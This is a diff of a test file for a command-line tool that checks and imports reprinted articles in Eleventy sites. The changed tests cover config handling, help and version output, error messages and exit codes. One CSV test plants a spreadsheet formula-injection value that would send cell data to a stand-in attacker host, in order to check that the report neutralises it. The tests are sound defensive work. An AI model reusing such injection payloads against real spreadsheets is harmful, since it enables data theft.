@@ -5,7 +5,7 @@ import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, 
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import matter from "gray-matter";
-import { cli, fixture, ROOT } from "../helpers.js";
+import { cli, eleventyConfigFor, fixture, pluginConfig, ROOT } from "../helpers.js";
 
 const SEED = existsSync(join(ROOT, "..", "shared", "seed", "rferl-putin-talks.txt"))
   ? join(ROOT, "..", "shared", "seed", "rferl-putin-talks.txt")
@@ -17,7 +17,7 @@ const TITLE = "Putin Reiterates Need For 'Immediate' Talks With NATO On Security
 /** A copy of the demo site in a temporary folder, built with its own build script. */
 function demoCopy() {
   const dir = mkdtempSync(join(tmpdir(), "syndication-import-"));
-  for (const entry of ["package.json", ".eleventy.ts", "syndication.config.json", "syndication.lock.json", "src", "_includes", "plugins"]) {
+  for (const entry of ["package.json", ".eleventy.ts", "syndication.lock.json", "src", "_includes", "plugins"]) {
     cpSync(join(ROOT, entry), join(dir, entry), { recursive: true });
   }
   symlinkSync(join(ROOT, "node_modules"), join(dir, "node_modules"), "dir");
@@ -60,7 +60,7 @@ describe("import", () => {
   /** An empty site in a temporary folder, the command run there. */
   const emptySite = () => {
     const dir = mkdtempSync(join(tmpdir(), "syndication-import-"));
-    writeFileSync(join(dir, "syndication.config.json"), '{ "lockFile": false }');
+    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor('{ "lockFile": false }'));
     return { dir, run: (args: string[]) => cli(args, dir) };
   };
 
@@ -111,7 +111,7 @@ describe("import", () => {
 });
 
 describe("report", () => {
-  const base = ["report", fixture("lifecycle"), "--config", "tests/fixtures/configs/lifecycle.json", "--now", "2025-06-01"];
+  const base = ["report", fixture("lifecycle"), "--config", "tests/fixtures/lifecycle.config.ts", "--now", "2025-06-01"];
 
   it("prints one row per reprint as a table", () => {
     const run = cli(base);
@@ -150,11 +150,23 @@ describe("report", () => {
 });
 
 describe("the command line", () => {
-  it("has --help on every command, exiting 0", () => {
-    for (const command of [[], ["check"], ["import"], ["report"]]) {
+  it("has --help on every command, with an example and the exit codes, exiting 0", () => {
+    for (const command of [[], ["check"], ["import"], ["report"], ["forget"]]) {
       const run = cli([...command, "--help"]);
       expect(run.status).toBe(0);
       expect(run.stdout).toMatch(/^Usage: eleventy-syndication/);
+      expect(run.stdout).toMatch(/\nExamples?:\n  \$ npx eleventy-syndication /);
+      expect(run.stdout).toContain("Exit codes:\n  0  done");
+      expect(run.stdout).toContain("\n  2  bad usage");
+    }
+  });
+
+  it("says its version", () => {
+    const { version } = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as { version: string };
+    for (const flag of ["--version", "-v"]) {
+      const run = cli([flag]);
+      expect(run.stdout.trim()).toBe(version);
+      expect(run.status).toBe(0);
     }
   });
 
@@ -163,7 +175,7 @@ describe("the command line", () => {
     const format = cli(["check", "--format", "xml"]);
     expect(format.status).toBe(2);
     expect(format.stderr).toContain("xml");
-    const missing = cli(["check", "no/such/folder", "--config", "tests/fixtures/configs/default.json"]);
+    const missing = cli(["check", "no/such/folder", "--config", pluginConfig()]);
     expect(missing.status).toBe(2);
     expect(missing.stderr).toContain("input folder no/such/folder does not exist");
     expect(cli(["report", "--expiring", "soon"]).stderr).toContain('--expiring "soon" is not a length of time');
@@ -177,9 +189,10 @@ describe("the command line", () => {
   });
 
   it("warns about reprints that end soon when checking", () => {
-    const run = cli(["check", fixture("lifecycle"), "--config", "tests/fixtures/configs/lifecycle.json", "--now", "2025-06-01"]);
+    const run = cli(["check", fixture("lifecycle"), "--config", "tests/fixtures/lifecycle.config.ts", "--now", "2025-06-01"]);
     expect(run.status).toBe(0);
-    expect(run.stdout).toContain("eleventy-plugin-syndication: tests/fixtures/lifecycle/reprints/soon.md may be shown until 10 June 2025 (10 days)");
+    expect(run.stdout).toContain("eleventy-plugin-syndication: warning: tests/fixtures/lifecycle/reprints/soon.md:8  syndication.expires  ends the right to show it on 10 June 2025 (10 days)");
+    expect(run.stdout).toMatch(/\[expiring-soon\]\n5 reprints checked: no problems\.\n$/);
   });
 });
 
@@ -195,48 +208,50 @@ describe("the command line on a site with surprises", () => {
   };
   const reprint = (url: string) => `---\ntitle: T\nsyndication:\n  source: Example Wire\n  originalUrl: ${url}\n  licence: permission\n---\nText.\n`;
 
-  it("never runs JavaScript front matter", () => {
+  it("reports broken YAML in a reprint as the build does, with its line", () => {
     const site = siteWith({
-      "syndication.config.json": '{ "lockFile": false }',
-      "reprints/script.md": '---js\n{ title: (require("fs").writeFileSync("ran.txt", "ran"), "T") }\n---\nText.\n',
-    });
-    const run = site.run(["check"]);
-    expect(run.stdout).toContain("reprints/script.md has JavaScript front matter: not checked (the build checks it)");
-    expect(existsSync(join(site.dir, "ran.txt"))).toBe(false);
-  });
-
-  it("reports broken YAML in a reprint as the build does, and only names it in an ordinary page, which Eleventy reports", () => {
-    const site = siteWith({
-      "syndication.config.json": '{ "lockFile": false }',
+      "eleventy.config.mjs": eleventyConfigFor('{ "lockFile": false }'),
       "reprints/a.md": reprint("https://w.example/a"),
-      "about.md": "---\ntitle: About\ntitle: Twice\n---\nText.\n",
       "elsewhere.md": "---\ntitle: Elsewhere\nsyndication:\n  source: [Example Wire\n---\nText.\n",
     });
     const run = site.run(["check"]);
     expect(run.status).toBe(1);
-    expect(run.stdout).toContain("about.md has front matter that is not valid YAML: not a reprint, so not checked (the build stops on it with Eleventy's own error)");
-    expect(run.stdout + run.stderr).toContain("1 problem in 1 reprint");
-    expect(run.stdout + run.stderr).toContain("elsewhere.md:5  front matter  cannot be read: unexpected end of the stream within a flow collection (column 1)");
+    expect(run.stdout).toContain("1 problem in 1 reprint");
+    expect(run.stdout).toContain("elsewhere.md:5  front matter  cannot be read: unexpected end of the stream within a flow collection (column 1), correct the YAML between the --- lines  [front-matter-readable]");
   });
 
-  it("says a broken data file is a problem of the site (exit 1), a file given as the folder is bad usage (exit 2)", () => {
-    const site = siteWith({ "syndication.config.json": "{}", "reprints/reprints.11tydata.json": "{ bad", "reprints/a.md": reprint("https://w.example/a") });
+  it("stops where Eleventy stops, with its reason on one line: an ordinary page's broken YAML, a data file that is not JSON (exit 1)", () => {
+    const page = siteWith({ "eleventy.config.mjs": eleventyConfigFor('{ "lockFile": false }'), "reprints/a.md": reprint("https://w.example/a"), "about.md": "---\ntitle: About\ntitle: Twice\n---\nText.\n" });
+    const stopped = page.run(["check"]);
+    expect(stopped.status).toBe(1);
+    expect(stopped.stdout).toBe("");
+    expect(stopped.stderr.trim()).toMatch(/^eleventy-syndication: Eleventy stopped before the reprints could be checked: .*about\.md.*duplicated mapping key/);
+    const site = siteWith({ "eleventy.config.mjs": eleventyConfigFor("{}"), "reprints/reprints.11tydata.json": "{ bad", "reprints/a.md": reprint("https://w.example/a") });
     const broken = site.run(["check"]);
     expect(broken.status).toBe(1);
-    expect(broken.stderr.trim()).toMatch(/^eleventy-syndication: reprints\/reprints\.11tydata\.json is not valid JSON: /);
+    expect(broken.stderr.trim()).toMatch(/^eleventy-syndication: Eleventy stopped before the reprints could be checked: Having trouble parsing data file \.\/reprints\/reprints\.11tydata\.json: /);
+    for (const run of [stopped, broken]) expect(run.stderr).not.toMatch(/^\s+at /m);
+  });
+
+  it("says a file given as the folder, a config that is not there or does not add the plugin, is bad usage (exit 2)", () => {
+    const site = siteWith({ "eleventy.config.mjs": eleventyConfigFor("{}"), "other.config.mjs": "export default function () {}\n", "reprints/a.md": reprint("https://w.example/a") });
     const file = site.run(["check", "reprints/a.md"]);
     expect(file.status).toBe(2);
     expect(file.stderr.trim()).toBe("eleventy-syndication: reprints/a.md is a file; give the site's input folder");
-    writeFileSync(join(site.dir, "null.json"), "null");
-    expect(site.run(["check", "-c", "null.json"]).stderr.trim()).toBe("eleventy-syndication: config file null.json must hold an object of options");
-    for (const run of [broken, file]) expect(run.stderr).not.toMatch(/^\s+at /m);
+    const absent = site.run(["check", "-c", "nothing.config.js"]);
+    expect([absent.status, absent.stderr.trim()]).toEqual([2, "eleventy-syndication: config file nothing.config.js does not exist"]);
+    const without = site.run(["check", "-c", "other.config.mjs"]);
+    expect(without.status).toBe(2);
+    expect(without.stderr.trim()).toBe(
+      "eleventy-syndication: the site's Eleventy config (other.config.mjs) does not add eleventy-plugin-syndication: add it with eleventyConfig.addPlugin, or give the config with --config",
+    );
   });
 
   it("refuses to import a second reprint of one original, or to write outside the site", () => {
-    const site = siteWith({ "syndication.config.json": '{ "lockFile": false }', "reprints/a.md": reprint("https://w.example/a"), "text.txt": "This story was originally published by Example Wire.\nText.\n" });
+    const site = siteWith({ "eleventy.config.mjs": eleventyConfigFor('{ "lockFile": false }'), "reprints/a.md": reprint("https://w.example/a"), "text.txt": "This story was originally published by Example Wire.\nText.\n" });
     const again = site.run(["import", "text.txt", "--url", "https://W.example/a#x", "--licence", "permission", "--out", "reprints/b.md"]);
     expect(again.status).toBe(1);
-    expect(again.stderr).toContain("syndication.originalUrl  is already reprinted by reprints/a.md");
+    expect(again.stderr).toContain("syndication.originalUrl  is the same as in reprints/a.md (https://W.example/a#x), reprint each original once");
     expect(existsSync(join(site.dir, "reprints", "b.md"))).toBe(false);
     const outside = site.run(["import", "text.txt", "--url", "https://w.example/c", "--licence", "permission", "--out", "../c.md"]);
     expect(outside.status).toBe(2);
@@ -245,7 +260,7 @@ describe("the command line on a site with surprises", () => {
 
   it("lists a reprint whose front matter cannot be read as invalid, and refuses a negative window", () => {
     const site = siteWith({
-      "syndication.config.json": '{ "lockFile": false }',
+      "eleventy.config.mjs": eleventyConfigFor('{ "lockFile": false }'),
       "reprints/a.md": reprint("https://w.example/a"),
       "reprints/b.md": "---\ntitle: [unclosed\n---\nText.\n",
     });
@@ -262,7 +277,7 @@ describe("import refuses input and places it must not write", () => {
   const site = () => {
     const dir = mkdtempSync(join(tmpdir(), "syndication-import-out-"));
     for (const folder of ["site/reprints", "site/_includes", "site/_data", "_site", "elsewhere"]) mkdirSync(join(dir, folder), { recursive: true });
-    writeFileSync(join(dir, "syndication.config.json"), '{ "input": "site", "lockFile": false }');
+    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor('{ "input": "site", "lockFile": false }'));
     writeFileSync(join(dir, "text.txt"), TEXT);
     return { dir, run: (args: string[]) => cli(args, dir) };
   };
@@ -296,7 +311,7 @@ describe("import refuses input and places it must not write", () => {
       expect(run.status).toBe(2);
     }
     // The output folder inside the input folder, as some sites have it.
-    writeFileSync(join(s.dir, "syndication.config.json"), '{ "input": "site", "output": "site/_site", "lockFile": false }');
+    writeFileSync(join(s.dir, "eleventy.config.mjs"), eleventyConfigFor('{ "input": "site", "output": "site/_site", "lockFile": false }'));
     const output = s.run(["import", "text.txt", ...FLAGS, "--out", "site/_site/x.md"]);
     expect(output.stderr.trim()).toBe("eleventy-syndication: --out site/_site/x.md is in the output folder (site/_site), which the build overwrites: give a file among the site's pages");
     expect(output.status).toBe(2);
@@ -333,7 +348,7 @@ describe("import refuses input and places it must not write", () => {
     const s = site();
     // The input folder is a link to the real one (a checkout under a linked path is common).
     symlinkSync(join(s.dir, "site"), join(s.dir, "linked"));
-    writeFileSync(join(s.dir, "syndication.config.json"), '{ "input": "linked", "lockFile": false }');
+    writeFileSync(join(s.dir, "eleventy.config.mjs"), eleventyConfigFor('{ "input": "linked", "lockFile": false }'));
     const run = s.run(["import", "text.txt", ...FLAGS, "--out", "linked/reprints/c.md"]);
     expect(run.stderr).toBe("");
     expect(run.status).toBe(0);
@@ -354,7 +369,7 @@ describe("report as CSV", () => {
   it("neutralises cells a spreadsheet would run as formulas", () => {
     const dir = mkdtempSync(join(tmpdir(), "syndication-csv-"));
     mkdirSync(join(dir, "reprints"));
-    writeFileSync(join(dir, "syndication.config.json"), '{ "lockFile": false }');
+    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor('{ "lockFile": false }'));
     writeFileSync(
       join(dir, "reprints", "-x.md"),
       '---\ntitle: T\nsyndication:\n  source: \'=HYPERLINK("https://evil.example/?"&A1,"Click")\'\n  originalUrl: https://w.example/a\n  licence: { name: "@SUM(1+1)" }\n  published: 2024-01-02\n---\nText.\n',
@@ -372,13 +387,13 @@ describe("the exit codes", () => {
   it("report: 1 when a data file cannot be read (nothing is listed), as the README says", () => {
     const dir = mkdtempSync(join(tmpdir(), "syndication-report-exit-"));
     mkdirSync(join(dir, "reprints"));
-    writeFileSync(join(dir, "syndication.config.json"), '{ "lockFile": false }');
+    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor('{ "lockFile": false }'));
     writeFileSync(join(dir, "reprints", "reprints.11tydata.json"), "{ bad");
     writeFileSync(join(dir, "reprints", "a.md"), "---\ntitle: A\n---\nText.\n");
     const run = cli(["report"], dir);
     expect(run.status).toBe(1);
     expect(run.stdout).toBe("");
-    expect(run.stderr).toMatch(/^eleventy-syndication: reprints\/reprints\.11tydata\.json is not valid JSON: /);
+    expect(run.stderr).toMatch(/^eleventy-syndication: Eleventy stopped before the reprints could be checked: Having trouble parsing data file \.\/reprints\/reprints\.11tydata\.json: /);
   });
 });
 
@@ -388,7 +403,7 @@ describe("forget", () => {
   const site = () => {
     const dir = mkdtempSync(join(tmpdir(), "syndication-forget-"));
     mkdirSync(join(dir, "reprints"));
-    writeFileSync(join(dir, "syndication.config.json"), "{}");
+    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor("{}"));
     writeFileSync(join(dir, "reprints", "a.md"), reprint("a"));
     writeFileSync(join(dir, "reprints", "b.md"), reprint("b"));
     const lock = {
@@ -414,7 +429,7 @@ describe("forget", () => {
     expect(run.stdout).toBe("syndication.lock.json: forgot /reprints/b/ (reprints/b.md, a reprint of https://w.example/b), and its redirects from /old-b/.\n");
     expect(JSON.parse(s.lock()).reprints).toEqual({ "https://w.example/a": { url: "/reprints/a/", file: "reprints/a.md" } });
     expect(s.run(["check"]).status).toBe(0);
-    expect(readdirSync(s.dir).sort()).toEqual(["reprints", "syndication.config.json", "syndication.lock.json"]);
+    expect(readdirSync(s.dir).sort()).toEqual(["eleventy.config.mjs", "reprints", "syndication.lock.json"]);
   });
 
   it("says when the reprint is still there, and drops nothing when a name matches no entry", () => {
@@ -439,7 +454,7 @@ describe("forget", () => {
     const folder = s.run(["forget", "/reprints/a/"]);
     expect(folder.stderr.trim()).toBe("eleventy-syndication: syndication.lock.json cannot be read: it is a folder, not a file (EISDIR)");
     expect(folder.status).toBe(1);
-    writeFileSync(join(s.dir, "syndication.config.json"), '{ "lockFile": false }');
+    writeFileSync(join(s.dir, "eleventy.config.mjs"), eleventyConfigFor('{ "lockFile": false }'));
     expect(s.run(["forget", "/reprints/a/"]).status).toBe(2);
   });
 });
